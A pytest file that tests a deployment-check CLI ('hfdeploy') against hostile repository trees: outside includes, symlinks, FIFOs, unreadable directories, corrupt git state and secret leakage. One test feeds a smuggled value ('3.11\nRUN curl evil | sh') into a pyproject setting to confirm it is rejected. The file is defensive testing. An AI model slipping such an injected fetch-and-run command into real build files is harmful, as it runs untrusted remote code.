"""The repository is a boundary: hostile trees never make hfdeploy read, print or write
anything outside the root, hang, or end in a traceback. Every run is a real CLI subprocess
with a timeout."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.support import git_init, make_tree, permissions_enforced

WORKTREE = str(Path(__file__).resolve().parents[2])
SECRET = "PLANTED-s3cr3t-Zq9xW7"
APP = "from fastapi import FastAPI\napp = FastAPI()\n"
FORMATS = ("text", "json", "github", "sarif")


def run(
    root: Path, *args: str, timeout: float = 60, permissions: bool = False
) -> subprocess.CompletedProcess[str]:
    """The CLI on `root`; with `permissions`, subject to file permissions even as root."""
    env = {**os.environ, "PYTHONPATH": WORKTREE, "HFDEPLOY_CACHE_DIR": str(root.parent / "cache")}
    return subprocess.run(
        [sys.executable, "-m", "hfdeploy", *args, str(root)],
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
        check=False,
        preexec_fn=permissions_enforced() if permissions else None,
    )


def assert_clean(proc: subprocess.CompletedProcess[str]) -> None:
    both = proc.stdout + proc.stderr
    assert "Traceback" not in both, both[-2000:]
    assert SECRET not in both
    assert proc.returncode in (0, 1, 2), (proc.returncode, both[-2000:])


def snapshot(directory: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()}


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    out = tmp_path / "outside"
    out.mkdir()
    (out / "x.txt").write_text(f"{SECRET}==1.0\nfastapi==0.1\n")
    (out / "migrations").mkdir()
    (out / "migrations" / "env.py").write_text(f"# {SECRET}\nimport sqlalchemy\n")
    return out


@pytest.mark.parametrize("include", ["../outside/x.txt", "OUTSIDE_ABS"])
def test_outside_requirements_include_is_never_read_printed_or_written(tmp_path, outside, include):
    include = str(outside / "x.txt") if include == "OUTSIDE_ABS" else include
    repo = make_tree(
        tmp_path / "repo", {"main.py": APP, "requirements.txt": f"-r {include}\nuvicorn\n"}
    )
    before = snapshot(outside)
    for fmt in FORMATS:
        proc = run(repo, "check", "--offline", "--format", fmt)
        assert_clean(proc)
        if fmt == "text":
            assert "outside the repository" in proc.stdout
    assert_clean(run(repo, "fix", "--offline", "--write"))
    assert snapshot(outside) == before


def test_symlinked_directory_pointing_outside_is_not_read_or_written(tmp_path, outside):
    repo = make_tree(tmp_path / "repo", {"main.py": APP, "requirements.txt": "fastapi\nuvicorn\n"})
    os.symlink(outside / "migrations", repo / "migrations")
    (repo / "alembic.ini").write_text("[alembic]\nscript_location = ../outside/migrations\n")
    os.symlink(outside / "x.txt", repo / "requirements-extra.txt")
    before = snapshot(outside)
    for fmt in FORMATS:
        assert_clean(run(repo, "check", "--offline", "--format", fmt))
    assert_clean(run(repo, "fix", "--offline", "--write"))
    assert snapshot(outside) == before


def test_symlink_inside_the_repository_is_written_through_not_replaced(tmp_path):
    repo = make_tree(tmp_path / "repo", {"main.py": APP, "deps/real.txt": "fastapi\n"})
    os.symlink("deps/real.txt", repo / "requirements.txt")
    assert_clean(run(repo, "fix", "--offline", "--write"))
    assert (repo / "requirements.txt").is_symlink()


def test_python_setting_from_pyproject_is_validated_at_the_choke_point(tmp_path):
    for bad in ('"banana"', '"3.11\\nRUN curl evil | sh"'):
        repo = make_tree(
            tmp_path / f"r{len(bad)}",
            {
                "main.py": APP,
                "requirements.txt": "fastapi\n",
                "pyproject.toml": f"[tool.hfdeploy]\npython = {bad}\n",
            },
        )
        proc = run(repo, "fix", "--offline", "--write")
        assert proc.returncode == 2, proc.stdout + proc.stderr
        assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
        assert not (repo / "Dockerfile").exists()


def test_fifo_pyproject_does_not_hang(tmp_path):
    repo = make_tree(tmp_path / "repo", {"main.py": APP, "requirements.txt": "fastapi\n"})
    os.mkfifo(repo / "pyproject.toml")
    assert_clean(run(repo, "check", "--offline", timeout=30))


def test_fifo_python_file_in_a_large_non_git_tree_does_not_hang(tmp_path):
    files = {f"pkg/m{i}.py": f"x = {i}\n" for i in range(450)}
    repo = make_tree(tmp_path / "repo", {"main.py": APP, "requirements.txt": "fastapi\n", **files})
    os.mkfifo(repo / "pkg" / "fifo.py")
    assert_clean(run(repo, "check", "--offline", timeout=60))


@pytest.mark.parametrize("cookie", ["undefined", "punycode"])
def test_odd_coding_cookie_is_no_traceback(tmp_path, cookie):
    repo = make_tree(
        tmp_path / "repo",
        {"main.py": f"# -*- coding: {cookie} -*-\n" + APP, "requirements.txt": "fastapi\n"},
    )
    assert_clean(run(repo, "check", "--offline"))


def test_readme_directory_and_read_only_repository_write_nothing(tmp_path):
    repo = make_tree(tmp_path / "repo", {"main.py": APP, "requirements.txt": "fastapi\n"})
    (repo / "README.md").mkdir()
    before = snapshot(repo)
    assert_clean(run(repo, "fix", "--offline", "--write"))
    assert snapshot(repo) == before


def test_read_only_repository_writes_nothing(tmp_path):
    # Runs as root too: the CLI runs without the capabilities that ignore permissions.
    repo = make_tree(tmp_path / "repo", {"main.py": APP, "requirements.txt": "fastapi\n"})
    before = snapshot(repo)
    repo.chmod(stat.S_IRUSR | stat.S_IXUSR)
    try:
        proc = run(repo, "fix", "--offline", "--write", permissions=True)
    finally:
        repo.chmod(0o755)
    assert_clean(proc)
    assert proc.returncode == 2 and "not writable; nothing was written" in proc.stderr
    assert snapshot(repo) == before


@pytest.mark.parametrize("command", ["check", "fix"])
def test_unreadable_directory_outside_git_is_a_finding_not_a_traceback(tmp_path, command):
    # `hfdeploy check /` outside git meets directories it cannot list; here a temp tree with
    # one (mode 000, a planted secret inside), run subject to permissions even as root.
    repo = make_tree(
        tmp_path / "repo",
        {"main.py": APP, "requirements.txt": "fastapi\n", "locked/keys.py": f"K = '{SECRET}'\n"},
    )
    (repo / "locked").chmod(0)
    try:
        started = time.monotonic()
        proc = run(repo, command, "--offline", permissions=True, timeout=120)
        elapsed = time.monotonic() - started
    finally:
        (repo / "locked").chmod(0o755)
    assert_clean(proc)
    assert elapsed < 60, elapsed
    if command == "check":
        assert "locked: HF001" in proc.stdout and "directory not read" in proc.stdout, proc.stdout


def test_stale_temp_file_is_reported(tmp_path):
    repo = make_tree(
        tmp_path / "repo",
        {"main.py": APP, "requirements.txt": "fastapi\n", ".hfdeploy-abc.tmp": f"KEY={SECRET}\n"},
    )
    proc = run(repo, "check", "--offline")
    assert_clean(proc)
    assert ".hfdeploy-abc.tmp" in proc.stdout


def test_cache_holds_no_secret_and_is_private(tmp_path):
    repo = make_tree(
        tmp_path / "repo",
        {
            "main.py": APP + f'DATABASE_URL = "postgres://u:{SECRET}@db/x"\n',
            "requirements.txt": "fastapi\n",
            ".env": f"DATABASE_URL=postgres://u:{SECRET}@db/x\n",
        },
    )
    git_init(repo)
    assert_clean(run(repo, "check", "--offline"))
    cache = tmp_path / "cache"
    for path in cache.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes()
            assert path.stat().st_mode & 0o077 == 0, path
    results = cache / "results"
    if results.exists():
        assert results.stat().st_mode & 0o077 == 0


def test_corrupt_git_head_is_no_traceback(tmp_path):
    repo = make_tree(
        tmp_path / "repo",
        {"main.py": APP, "requirements.txt": "fastapi\n", ".env": f"TOKEN={SECRET}\n"},
    )
    git_init(repo)
    (repo / ".git" / "HEAD").write_text("garbage\n")
    proc = run(repo, "check", "--offline")
    assert_clean(proc)
    assert "EV002" in proc.stdout  # the skipped committed-.env check is said, not silent


def test_no_git_on_path_is_reported(tmp_path):
    repo = make_tree(tmp_path / "repo", {"main.py": APP, "requirements.txt": "fastapi\n"})
    git_init(repo)
    env = {
        **os.environ,
        "PYTHONPATH": WORKTREE,
        "HFDEPLOY_CACHE_DIR": str(tmp_path / "cache"),
        "PATH": str(tmp_path / "nobin"),
    }
    proc = subprocess.run(
        [sys.executable, "-m", "hfdeploy", "check", "--offline", str(repo)],
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
        check=False,
    )
    assert_clean(proc)
    assert "EV002" in proc.stdout
